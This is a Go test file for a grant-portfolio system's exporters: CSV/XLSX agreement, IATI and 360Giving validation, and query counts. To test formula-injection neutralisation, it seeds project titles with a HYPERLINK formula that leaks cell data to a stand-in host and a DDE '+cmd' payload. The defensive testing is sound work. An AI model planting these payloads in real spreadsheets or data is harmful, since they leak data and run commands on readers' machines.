package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/puente-science/puente/demo"
	"github.com/puente-science/puente/export"
	"github.com/puente-science/puente/i18n"
	"github.com/puente-science/puente/models"
	"github.com/puente-science/puente/refdata"
	"github.com/puente-science/puente/testdb"
	"github.com/puente-science/puente/workflow"
)

var fixedNow = time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)

// portfolio seeds the reference data and a demo portfolio of n projects
// (the generator covers every workflow state) and returns the names.
func portfolio(t *testing.T, s *models.Store, n int) models.ExportNames {
	t.Helper()
	ctx := context.Background()
	if _, err := refdata.Seed(ctx, s); err != nil {
		t.Fatal(err)
	}
	if _, err := demo.Generate(ctx, s, demo.Options{Projects: n, Seed: 7, Now: fixedNow}); err != nil {
		t.Fatal(err)
	}
	names, err := s.ExportNames(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return names
}

func langCtx(l i18n.Lang) context.Context {
	return i18n.WithLocalizer(context.Background(), i18n.Localizer{Lang: l, Catalog: i18n.Default()})
}

// hostile gives two projects titles that would run as formulas and the
// investigator of a third a name in Chinese with accents; it returns their
// codes.
func hostile(t *testing.T, s *models.Store) (formula, plus, utf string) {
	t.Helper()
	var ps []models.Project
	if err := s.DB().Order("id").Limit(3).Find(&ps).Error; err != nil || len(ps) < 3 {
		t.Fatalf("projects: %v", err)
	}
	set := func(id int64, col, v string) {
		if err := s.DB().Exec("UPDATE projects SET "+col+" = ? WHERE id = ?", v, id).Error; err != nil {
			t.Fatal(err)
		}
	}
	for _, col := range []string{"title_en", "title_es", "title_pt", "title_zh"} {
		set(ps[0].ID, col, `=HYPERLINK("http://evil.example/?x="&A1,"Click")`)
		set(ps[1].ID, col, "+cmd|' /C calc'!A0")
		set(ps[2].ID, col, "Biodiversidad andina: São Paulo, Ñuñoa — 安第斯生物多样性")
	}
	if err := s.DB().Exec("UPDATE users SET name = ? WHERE id = ?", "José Núñez 王小明", ps[2].PIUserID).Error; err != nil {
		t.Fatal(err)
	}
	return ps[0].Code, ps[1].Code, ps[2].Code
}

func TestTablesAgree(t *testing.T) {
	testdb.Each(t, func(t *testing.T, s *models.Store) {
		names := portfolio(t, s, 40)
		formula, plus, utf := hostile(t, s)
		ctx := langCtx(i18n.ES)
		src, err := s.ProjectExport(ctx, models.ProjectScope{All: true}, models.ProjectFilter{Sort: "code", Lang: "es"}, false)
		if err != nil {
			t.Fatal(err)
		}
		var total int64
		s.DB().Table("projects").Count(&total)
		if int64(src.Len()) != total || total < 40 {
			t.Fatalf("export holds %d projects, the portfolio %d", src.Len(), total)
		}
		opts := export.TableOptions{Names: names}
		var cb, xb bytes.Buffer
		if err := export.CSV(ctx, &cb, src, opts); err != nil {
			t.Fatal(err)
		}
		if err := export.XLSX(ctx, &xb, src, opts); err != nil {
			t.Fatal(err)
		}
		raw := cb.Bytes()
		if !bytes.HasPrefix(raw, []byte("\ufeff")) {
			t.Error("the CSV has no byte-order mark")
		}
		if !bytes.Contains(raw, []byte("\r\n")) || bytes.Count(raw, []byte("\n")) != bytes.Count(raw, []byte("\r\n")) {
			t.Error("the CSV's lines do not all end in CRLF")
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != int(total)+1 {
			t.Fatalf("CSV has %d rows, want %d and a header", len(rows), total)
		}
		if rows[0][0] != "Código" || rows[0][13] != "Solicitado" {
			t.Errorf("header not in Spanish: %q", rows[0])
		}
		byCode := map[string][]string{}
		for _, r := range rows[1:] {
			byCode[r[0]] = r
		}
		if got := byCode[formula][1]; !strings.HasPrefix(got, "'=HYPERLINK(") {
			t.Errorf("formula title written as %q", got)
		}
		if got := byCode[plus][1]; got != "'+cmd|' /C calc'!A0" {
			t.Errorf("+cmd title written as %q", got)
		}
		if got := byCode[utf]; got[1] != "Biodiversidad andina: São Paulo, Ñuñoa — 安第斯生物多样性" || got[10] != "José Núñez 王小明" {
			t.Errorf("UTF-8 title or name changed: %q / %q", got[1], got[10])
		}

		f, err := excelize.OpenReader(&xb)
		if err != nil {
			t.Fatalf("excelize cannot open the XLSX: %v", err)
		}
		defer f.Close()
		sheets := f.GetSheetList()
		if len(sheets) != 1 || sheets[0] != "Proyectos" {
			t.Errorf("sheets %q", sheets)
		}
		xrows, err := f.GetRows(sheets[0], excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if len(xrows) != len(rows) {
			t.Fatalf("XLSX has %d rows, CSV %d", len(xrows), len(rows))
		}
		const moneyFrom, moneyTo, yearCol, dateFrom = 13, 15, 16, 17
		for i, r := range rows {
			x := append(xrows[i], make([]string, len(r)-len(xrows[i]))...) // GetRows trims empty trailing cells
			for j, want := range r {
				got := x[j]
				if i > 0 && want != "" {
					switch {
					case j >= moneyFrom && j <= moneyTo:
						a, _ := strconv.ParseFloat(want, 64)
						b, err := strconv.ParseFloat(got, 64)
						if err != nil || a != b {
							t.Errorf("row %d col %d: XLSX %q, CSV %q", i, j, got, want)
						}
						continue
					case j >= dateFrom:
						serial, err := strconv.ParseFloat(got, 64)
						if err != nil {
							t.Errorf("row %d col %d: XLSX date %q is not a serial", i, j, got)
							continue
						}
						d, _ := excelize.ExcelDateToTime(serial, false)
						got = d.Format("2006-01-02")
					case j == yearCol:
					}
				}
				if got != want {
					t.Errorf("row %d col %d: XLSX %q, CSV %q", i, j, got, want)
				}
			}
		}
		// Amounts are numbers in the workbook, with the currency's decimals.
		typ, err := f.GetCellType(sheets[0], "N2")
		if err != nil || (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) {
			t.Errorf("requested amount cell type %v (%v)", typ, err)
		}
	})
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{"=1+2": "'=1+2", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)",
		"\tx": "'\tx", "\rx": "'\rx", "  =1": "'  =1", "plain": "plain", "": "", "a=b": "a=b"} {
		if got := export.Neutralise(in, true); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
	if got := export.Neutralise("  =1", false); got != "  =1" {
		t.Errorf("XLSX cells look only at the first character: %q", got)
	}
}

func TestSplit(t *testing.T) {
	for n := 1; n <= 9; n++ {
		sum := 0
		for _, p := range export.Split(n) {
			sum += p
		}
		if sum != 100 {
			t.Errorf("Split(%d) sums to %d", n, sum)
		}
	}
	if got := export.Split(3); !slices.Equal(got, []int{34, 33, 33}) {
		t.Errorf("Split(3) = %v", got)
	}
}

// xmllint validates a file against the IATI schema, or skips the test
// when xmllint is missing (it must be there in CI).
func xmllint(t *testing.T, path string) {
	t.Helper()
	bin, err := exec.LookPath("xmllint")
	if err != nil {
		if os.Getenv("CI") != "" || os.Getenv("PUENTE_REQUIRE_BROWSER") != "" {
			t.Fatal("xmllint is missing and CI requires it (apt-get install libxml2-utils)")
		}
		t.Skip("xmllint not found (apt-get install libxml2-utils); the IATI file is not validated against the XSD")
	}
	schema, _ := filepath.Abs(filepath.Join("testdata", "iati-2.03", "iati-activities-schema.xsd"))
	out, err := exec.Command(bin, "--noout", "--nonet", "--schema", schema, path).CombinedOutput()
	if err != nil {
		t.Fatalf("the IATI file does not validate: %v\n%s", err, out)
	}
}

// ValidateIATI checks an IATI file with xmllint and the rules the XSD
// cannot state; it returns the activities' identifiers.
func ValidateIATI(t *testing.T, doc []byte, pub export.Publisher) []string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "iati.xml")
	if err := os.WriteFile(path, doc, 0o600); err != nil {
		t.Fatal(err)
	}
	xmllint(t, path)
	var parsed struct {
		Version    string `xml:"version,attr"`
		Activities []struct {
			Lang      string `xml:"http://www.w3.org/XML/1998/namespace lang,attr"`
			ID        string `xml:"iati-identifier"`
			Reporting struct {
				Ref  string `xml:"ref,attr"`
				Type string `xml:"type,attr"`
			} `xml:"reporting-org"`
			Status struct {
				Code string `xml:"code,attr"`
			} `xml:"activity-status"`
			TitleLangs []struct {
				Lang string `xml:"http://www.w3.org/XML/1998/namespace lang,attr"`
			} `xml:"title>narrative"`
			Countries []struct {
				Code       string `xml:"code,attr"`
				Percentage int    `xml:"percentage,attr"`
			} `xml:"recipient-country"`
			Sectors []struct {
				Vocabulary string `xml:"vocabulary,attr"`
				Code       string `xml:"code,attr"`
				Percentage int    `xml:"percentage,attr"`
			} `xml:"sector"`
			Budgets []struct {
				Value string `xml:"value"`
			} `xml:"budget"`
			Transactions []struct {
				Type struct {
					Code string `xml:"code,attr"`
				} `xml:"transaction-type"`
				Value string `xml:"value"`
			} `xml:"transaction"`
		} `xml:"iati-activity"`
	}
	if err := xml.Unmarshal(doc, &parsed); err != nil {
		t.Fatal(err)
	}
	if parsed.Version != "2.03" {
		t.Errorf("version %q", parsed.Version)
	}
	dac := map[string]bool{}
	for c := range export.DACResearchNames {
		dac[c] = true
	}
	var ids []string
	for _, a := range parsed.Activities {
		ids = append(ids, a.ID)
		if !strings.HasPrefix(a.ID, pub.OrgRef+"-") || a.Reporting.Ref != pub.OrgRef || a.Reporting.Type != pub.OrgType {
			t.Errorf("%s: identifier or reporting-org does not follow %s", a.ID, pub.OrgRef)
		}
		if !slices.Contains([]string{"1", "2", "3", "4", "5", "6"}, a.Status.Code) {
			t.Errorf("%s: activity-status %q is not in the codelist", a.ID, a.Status.Code)
		}
		if len(a.TitleLangs) == 0 || a.TitleLangs[0].Lang == "" {
			t.Errorf("%s: title narratives without xml:lang", a.ID)
		}
		sum := 0
		for _, c := range a.Countries {
			sum += c.Percentage
		}
		if len(a.Countries) > 0 && sum != 100 {
			t.Errorf("%s: recipient-country percentages sum to %d", a.ID, sum)
		}
		if len(a.Countries) == 0 {
			t.Errorf("%s: no recipient country", a.ID)
		}
		byVocab := map[string]int{}
		for _, s := range a.Sectors {
			byVocab[s.Vocabulary] += s.Percentage
			if s.Vocabulary == "1" && !dac[s.Code] {
				t.Errorf("%s: DAC sector %q is not a research purpose code", a.ID, s.Code)
			}
		}
		if byVocab["1"] != 100 {
			t.Errorf("%s: DAC sectors sum to %d", a.ID, byVocab["1"])
		}
		if v, ok := byVocab["99"]; ok && v != 100 {
			t.Errorf("%s: FORD sectors sum to %d", a.ID, v)
		}
		for _, tr := range a.Transactions {
			if tr.Type.Code != "2" && tr.Type.Code != "3" {
				t.Errorf("%s: transaction type %q", a.ID, tr.Type.Code)
			}
		}
		if len(a.Budgets) > 0 {
			var budget, commitment float64
			for _, b := range a.Budgets {
				v, _ := strconv.ParseFloat(b.Value, 64)
				budget += v
			}
			for _, tr := range a.Transactions {
				if tr.Type.Code == "2" {
					commitment, _ = strconv.ParseFloat(tr.Value, 64)
				}
			}
			if d := budget - commitment; d > 0.001 || d < -0.001 {
				t.Errorf("%s: budgets sum to %v, the commitment is %v", a.ID, budget, commitment)
			}
		}
	}
	return ids
}

func TestIATIValidates(t *testing.T) {
	testdb.Each(t, func(t *testing.T, s *models.Store) {
		names := portfolio(t, s, 60)
		ctx := context.Background()
		f, ok := export.PublishedFilter(models.ProjectFilter{})
		if !ok {
			t.Fatal("no published states")
		}
		src, err := s.ProjectExport(ctx, models.ProjectScope{All: true}, f, true)
		if err != nil {
			t.Fatal(err)
		}
		var states []workflow.State
		s.DB().Table("projects").Distinct("state").Where("state IN ?", export.PublishedStates).Pluck("state", &states)
		if len(states) != len(export.PublishedStates) {
			t.Fatalf("the demo portfolio has published states %v, want all of %v", states, export.PublishedStates)
		}
		var want int64
		s.DB().Table("projects").Where("state IN ?", export.PublishedStates).Count(&want)
		pub := export.Publisher{OrgRef: "XI-ROR-034t30j35", OrgType: "10", OrgName: "Bureau", GrantPrefix: "360G-puente-"}
		var buf bytes.Buffer
		if err := export.IATI(ctx, &buf, src, pub, names, fixedNow); err != nil {
			t.Fatal(err)
		}
		ids := ValidateIATI(t, buf.Bytes(), pub)
		if int64(len(ids)) != want || want == 0 {
			t.Errorf("%d activities, %d published projects", len(ids), want)
		}
		if !bytes.Contains(buf.Bytes(), []byte(`<transaction-type code="3"></transaction-type>`)) &&
			!bytes.Contains(buf.Bytes(), []byte(`<transaction-type code="3"/>`)) {
			t.Error("no disbursement transaction in a portfolio with paid tranches")
		}
		// A disbursement is described in the four languages.
		for _, n := range []string{`<narrative xml:lang="en">Tranche 1</narrative>`, `<narrative xml:lang="es">Tramo 1</narrative>`,
			`<narrative xml:lang="pt">Parcela 1</narrative>`, `<narrative xml:lang="zh">第 1 笔拨款</narrative>`} {
			if !bytes.Contains(buf.Bytes(), []byte(n)) {
				t.Errorf("no %s", n)
			}
		}
	})
}

// CheckGrants checks a 360Giving package against the standard's required
// fields and returns the grants' ids.
func CheckGrants(t *testing.T, doc []byte) []string {
	t.Helper()
	var pkg struct {
		Grants []map[string]any `json:"grants"`
	}
	if err := json.Unmarshal(doc, &pkg); err != nil {
		t.Fatalf("not JSON: %v", err)
	}
	var ids []string
	for _, g := range pkg.Grants {
		id, _ := g["id"].(string)
		ids = append(ids, id)
		for _, k := range []string{"id", "title", "description", "currency", "awardDate"} {
			if v, _ := g[k].(string); v == "" {
				t.Errorf("grant %s: %s missing", id, k)
			}
		}
		if !strings.HasPrefix(id, "360G-") {
			t.Errorf("grant id %q has no 360G- prefix", id)
		}
		if _, err := time.Parse("2006-01-02", g["awardDate"].(string)); err != nil {
			t.Errorf("grant %s: awardDate %v", id, g["awardDate"])
		}
		if v, ok := g["amountAwarded"].(float64); !ok || v < 0 {
			t.Errorf("grant %s: amountAwarded %v is not a number", id, g["amountAwarded"])
		}
		if c, _ := g["currency"].(string); len(c) != 3 {
			t.Errorf("grant %s: currency %q", id, c)
		}
		orgs := func(key string) []any { v, _ := g[key].([]any); return v }
		recipients := orgs("recipientOrganization")
		if len(recipients) == 0 && g["recipientIndividual"] == nil {
			t.Errorf("grant %s: no recipient", id)
		}
		for _, key := range []string{"recipientOrganization", "fundingOrganization"} {
			for _, o := range orgs(key) {
				m, _ := o.(map[string]any)
				if m["id"] == "" || m["id"] == nil || m["name"] == "" || m["name"] == nil {
					t.Errorf("grant %s: %s without id or name: %v", id, key, m)
				}
			}
		}
		if len(orgs("fundingOrganization")) == 0 {
			t.Errorf("grant %s: no fundingOrganization", id)
		}
	}
	return ids
}

func Test360Giving(t *testing.T) {
	testdb.Each(t, func(t *testing.T, s *models.Store) {
		names := portfolio(t, s, 40)
		ctx := context.Background()
		f, _ := export.PublishedFilter(models.ProjectFilter{})
		src, err := s.ProjectExport(ctx, models.ProjectScope{All: true}, f, true)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		pub := export.Publisher{OrgRef: "XI-ROR-034t30j35", OrgType: "10", OrgName: "Bureau", GrantPrefix: "360G-puente-"}
		if err := export.Giving360(ctx, &buf, src, pub, names); err != nil {
			t.Fatal(err)
		}
		ids := CheckGrants(t, buf.Bytes())
		var want int64
		s.DB().Table("projects").Where("state IN ? AND awarded_minor IS NOT NULL", export.PublishedStates).Count(&want)
		if int64(len(ids)) != want || want == 0 {
			t.Errorf("%d grants, %d awarded projects", len(ids), want)
		}
	})
}

// TestExportQueriesBounded: the statements an export runs do not grow with
// the portfolio (below a batch of 500).
func TestExportQueriesBounded(t *testing.T) {
	testdb.Each(t, func(t *testing.T, s *models.Store) {
		names := portfolio(t, s, 10)
		q, err := testdb.CountQueries(s.DB())
		if err != nil {
			t.Fatal(err)
		}
		count := func() int64 {
			q.Reset()
			ctx := context.Background()
			f, _ := export.PublishedFilter(models.ProjectFilter{})
			src, err := s.ProjectExport(ctx, models.ProjectScope{All: true}, f, true)
			if err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			if err := export.IATI(ctx, &buf, src, export.Publisher{OrgRef: "XI-X-1", OrgType: "10", OrgName: "B"}, names, fixedNow); err != nil {
				t.Fatal(err)
			}
			return q.Count()
		}
		small := count()
		if _, err := demo.Generate(context.Background(), s, demo.Options{Projects: 100, Seed: 8, Now: fixedNow}); err != nil {
			t.Fatal(err)
		}
		if big := count(); big != small {
			t.Errorf("%d statements at 10 projects, %d at 110", small, big)
		}
	})
}
